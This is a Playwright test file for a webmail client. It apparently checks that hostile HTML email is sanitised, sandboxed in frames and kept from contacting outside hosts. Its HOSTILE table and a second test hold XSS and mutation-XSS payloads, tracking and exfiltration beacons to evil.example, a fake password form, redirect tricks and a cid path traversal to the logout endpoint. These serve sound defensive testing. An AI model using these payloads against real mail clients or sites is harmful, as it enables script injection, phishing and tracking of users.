import { expect, type Page } from '@playwright/test'
import { removeDataDirectory, testDataDirectory } from '#testing/db/database.ts'
import { type ServerProcess, until } from '#testing/servers/server-process.ts'
import {
  connection,
  EMAIL,
  fillMaildir,
  type MailServers,
  PASSWORD,
  signIn as signInByApi,
  startMailServers,
  startProduct,
} from '../system/mail-server.ts'
import { test } from './journey.ts'
import { alterMessages } from './network.ts'
import { rows } from './sign-in.ts'

test.use({ ownBrowser: true })

const THREAD_LENGTH = 200
const LARGE = 2 * 1024 * 1024

/** Each would contact `evil.example`, set `window.hacked`, or leave its frame. */
const HOSTILE: Record<string, string> = {
  script: `<script>parent.hacked=1;fetch('https://evil.example/script')</script><script src="https://evil.example/s.js"></script>`,
  handlers: `<img src="x" onerror="parent.hacked=1"><div onmouseover="parent.hacked=1" style="width:100%;height:200px">over</div><body onload="parent.hacked=1"><details open ontoggle="parent.hacked=1"><summary>s</summary></details>`,
  style: `<style>@import url('https://evil.example/i.css');@font-face{font-family:f;src:url(https://evil.example/f.woff)}p{font-family:f;background:url(https://evil.example/bg.png)}a[href^="h"]{background-image:image-set(url(https://evil.example/set.png) 1x)}</style><p style="background:url('https://evil.example/inline.png');list-style-image:url(https://evil.example/li.png)">styled</p><link rel="stylesheet" href="https://evil.example/l.css"><link rel="preload" as="image" href="https://evil.example/p.png"><link rel="dns-prefetch" href="//evil.example">`,
  overlay: `<div style="position:fixed;inset:0;z-index:2147483647;background:red">over everything</div><div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:red">far out</div>`,
  forms: `<form action="https://evil.example/form"><input name="password" type="password" autofocus><button>Send</button></form><button formaction="https://evil.example/b">b</button>`,
  refresh: `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/"><a href="relative">relative</a><img src="relative.png">`,
  vector: `<svg onload="parent.hacked=1"><script>parent.hacked=1</script><image href="https://evil.example/svg.png"/><use href="https://evil.example/u.svg#a"/><foreignObject><iframe src="https://evil.example/fo"></iframe></foreignObject></svg><math><mi xlink:href="javascript:parent.hacked=1">m</mi></math>`,
  frames: `<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e"><applet code="x"></applet><video src="https://evil.example/v.mp4" poster="https://evil.example/v.png" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>`,
  addresses: `<a href="javascript:parent.hacked=1">javascript</a><a href="data:text/html,<script>opener.hacked=1</script>" target="_blank">data</a><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hacked=1'/>"><img src="cid:../../../api/auth/logout"><img srcset="https://evil.example/srcset.png 2x" src="https://evil.example/img.png"><picture><source srcset="https://evil.example/source.png"></picture><img src="//evil.example/noscheme.png"><table background="https://evil.example/table.png"><tr><td background="https://evil.example/td.png">cell</td></tr></table>`,
  mutation: `<noscript><p title="</noscript><img src=x onerror=parent.hacked=1>"></noscript><template><img src=x onerror=parent.hacked=1></template><!--[if gte mso 9]><img src="https://evil.example/mso.png"><![endif]--><textarea><img title="</textarea><img src=x onerror=parent.hacked=1>"></textarea><xmp><p title="</xmp><img src=x onerror=parent.hacked=1>"></xmp>`,
  table: `<table>${'<tr><td>'.repeat(400)}deep${'</td></tr>'.repeat(400)}</table><table>${`<tr>${'<td>1</td>'.repeat(200)}</tr>`.repeat(100)}</table>`,
}

let servers: MailServers
let server: ServerProcess
let dataDir: string

test.beforeAll(async () => {
  servers = await startMailServers(1)
  dataDir = await testDataDirectory('quillbox-real-mail-')
  const [user = ''] = servers.dovecot.users
  const messages = [...hostileMail(user), ...longThread(user), largeMail(user)]
  await fillMaildir(servers.dovecot.home(user), messages)
  server = await startProduct(dataDir, servers)
  const token = await signInByApi(server)
  await server.call('POST', '/api/accounts/imap', { token, body: connection(servers, user) })
  await until(
    async () => {
      const { total } = (await server.call('GET', '/api/emails', { token })) as { total: number }
      return total === messages.length
    },
    100,
    10 * 60_000,
  )
})
test.afterAll(async () => {
  await server?.stop()
  await servers?.close()
  if (dataDir) await removeDataDirectory(dataDir)
})

test('hostile HTML neither runs, nor leaves its frame, nor contacts anyone', async ({ page }) => {
  const strangers: string[] = []
  await page.route('**/*', route => {
    const url = route.request().url()
    if (url.startsWith(server.url) || /^(data|blob|about):/.test(url)) return route.continue()
    strangers.push(url)
    return route.fulfill({ status: 200, contentType: 'image/png', body: '' })
  })
  const tabs = page.context().pages().length
  for (const [at, name] of Object.keys(HOSTILE).entries()) {
    await (at === 0 ? open : goTo)(page, `Hostile ${name}`)
    const article = page.getByRole('article').first()
    const frame = article.frameLocator('iframe').first()
    await expect(frame.getByText(`Below ${name}`)).toBeAttached()
    const address = page.url()
    // By now the pointer has moved over it, and the frame's own events could have fired.
    await article.locator('iframe').first().hover()
    await expect(article.locator('iframe').first()).toHaveAttribute('sandbox', /^(?!.*allow-scripts)/)
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    expect(page.url()).toBe(address)
    expect(page.context().pages()).toHaveLength(tabs)
    await expect(
      frame.locator(
        'script, form, input, iframe, object, embed, svg, math, base[href], meta[http-equiv=refresh], link',
      ),
    ).toHaveCount(0)
    for (const locator of [page.getByRole('button', { name: 'Reply', exact: true }).first()]) {
      // Nothing of the message covers the page's own controls.
      await locator.scrollIntoViewIfNeeded()
      const box = await locator.boundingBox()
      const isFree = await locator.evaluate(
        (element, point) => element.contains(document.elementFromPoint(point.x, point.y)),
        { x: (box?.x ?? 0) + (box?.width ?? 0) / 2, y: (box?.y ?? 0) + (box?.height ?? 0) / 2 },
      )
      expect(isFree, `the message lies over the page: ${name}`).toBe(true)
    }
  }
  expect(strangers).toEqual([])
})

test('what would slip through the sanitiser is held by the frame, also far down in a long message', async ({
  page,
}) => {
  const hostile = `<script>parent.hacked=1</script><img src="x" onerror="parent.hacked=1">
    <svg onload="parent.hacked=1"></svg><img src="https://evil.example/i.png">
    <link rel="stylesheet" href="https://evil.example/s.css"><iframe src="https://evil.example/f"></iframe>
    <style>@import url(https://evil.example/i.css); p { background: url(https://evil.example/b.png) }</style>
    <form action="https://evil.example/form"><button>Go</button></form><p>Seen</p>`
  const strangers: string[] = []
  await page.route('https://evil.example/**', route => {
    strangers.push(route.request().url())
    return route.fulfill({ status: 200, contentType: 'image/png', body: '' })
  })
  const body = `${hostile}<p>${'Filling. '.repeat(20_000)}</p>${hostile}<p>The end</p>`
  await alterMessages(page, { body })
  await open(page, 'Hostile addresses')
  const frame = page.getByRole('article').first().frameLocator('iframe').first()
  await expect(frame.getByText('The end')).toBeAttached()
  await expect(frame.getByText('Seen')).toHaveCount(2)
  await frame.getByRole('button', { name: 'Go' }).first().click()
  await frame.getByRole('button', { name: 'Go' }).last().click()
  await expect(frame.getByText('The end')).toBeAttached()
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(strangers).toEqual([])
})

test('images of elsewhere are fetched when they are asked for, and by the server alone', async ({ page }) => {
  const strangers: string[] = []
  await page.route('https://evil.example/**', route => {
    strangers.push(`${route.request().resourceType()} ${route.request().url()}`)
    return route.fulfill({ status: 200, contentType: 'image/png', body: '' })
  })
  const asked: string[] = []
  page.on('request', request => {
    if (/\/api\/emails\/\d+\/image\?/.test(request.url())) asked.push(request.url())
  })
  await open(page, 'Hostile addresses')
  await expect(page.getByRole('article').first().frameLocator('iframe').getByText('Below')).toBeAttached()
  expect(strangers).toEqual([])
  await page.getByRole('button', { name: 'Show images' }).click()
  // The server fetches them, so that nobody learns where the reader is.
  await expect.poll(() => asked.length).toBeGreaterThan(0)
  expect(strangers).toEqual([])
})

test(`a conversation of ${THREAD_LENGTH} messages opens and is gone through by keys`, async ({ page }) => {
  await open(page, 'Long story')
  await expect(page.getByRole('heading', { name: /Long story/ })).toBeVisible()
  await page.getByRole('button', { name: /hidden messages?/ }).click()
  await expect(page.getByRole('article')).toHaveCount(THREAD_LENGTH)
  // Only bodies near the window are drawn.
  expect(await page.locator('iframe').count()).toBeLessThan(60)
  await page.keyboard.press('r')
  await expect(page.getByRole('textbox', { name: 'Reply message' })).toBeFocused()
})

test('a message of 2 MB of HTML is shown, and the page goes on working', async ({ page }) => {
  await open(page, 'Very large')
  const frame = page.getByRole('article').first().frameLocator('iframe').first()
  await expect(frame.getByText('The last line of it')).toBeAttached()
  await page.keyboard.press('u')
  await expect(page.getByRole('heading', { name: 'Search Results' })).toBeVisible()
})

const searchFor = (subject: string) => `subject:"${subject}"`
const row = (page: Page, subject: string) => rows(page).filter({ hasText: subject }).first().getByRole('link')

/** Signs in and opens this message alone: the page would read ahead what else is in the inbox. */
async function open(page: Page, subject: string): Promise<void> {
  await page.goto(`${server.url}/inbox?q=${encodeURIComponent(searchFor(subject))}`)
  await page.getByLabel('Email').fill(EMAIL)
  await page.getByLabel('Password', { exact: true }).fill(PASSWORD)
  await page.getByRole('button', { name: 'Sign In' }).click()
  await row(page, subject).click()
}

/** Goes from one message to another. */
async function goTo(page: Page, subject: string): Promise<void> {
  await page.keyboard.press('u')
  await page.getByPlaceholder('search bar').fill(searchFor(subject))
  await page.keyboard.press('Enter')
  await row(page, subject).click()
}

const minutesAgo = (minutes: number) => new Date(Date.now() - minutes * 60_000)

function message(
  to: string,
  {
    id,
    subject,
    html,
    date,
    headers = '',
  }: { id: string; subject: string; html: string; date: Date; headers?: string },
) {
  const lines = [
    'From: Mallory <mallory@elsewhere.example>',
    `To: ${to}`,
    `Subject: ${subject}`,
    `Date: ${date.toUTCString()}`,
    `Message-ID: <${id}@elsewhere.example>`,
    ...(headers ? [headers] : []),
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n'),
  ]
  return { source: lines.join('\r\n'), date }
}

const hostileMail = (to: string) =>
  Object.entries(HOSTILE).map(([name, html], index) =>
    message(to, {
      id: `hostile-${name}`,
      subject: `Hostile ${name}`,
      html: `<html><body>${html}<p>Below ${name}</p></body></html>`,
      date: minutesAgo(60 + index),
    }),
  )

const longThread = (to: string) =>
  Array.from({ length: THREAD_LENGTH }, (_, index) =>
    message(to, {
      id: `long-${index}`,
      subject: index === 0 ? 'Long story' : 'Re: Long story',
      html: `<p>Part ${index + 1} of the story.</p>`,
      date: minutesAgo(2000 - index),
      headers: index === 0 ? '' : `In-Reply-To: <long-${index - 1}@elsewhere.example>`,
    }),
  )

const largeMail = (to: string) => {
  const line =
    '<p style="color:#333">A line of a <b>large</b> message with a <a href="https://x.example/">link</a>.</p>'
  const html = `${line.repeat(Math.ceil(LARGE / line.length))}<p>The last line of it</p>`
  return message(to, { id: 'large', subject: 'Very large', html, date: minutesAgo(30) })
}
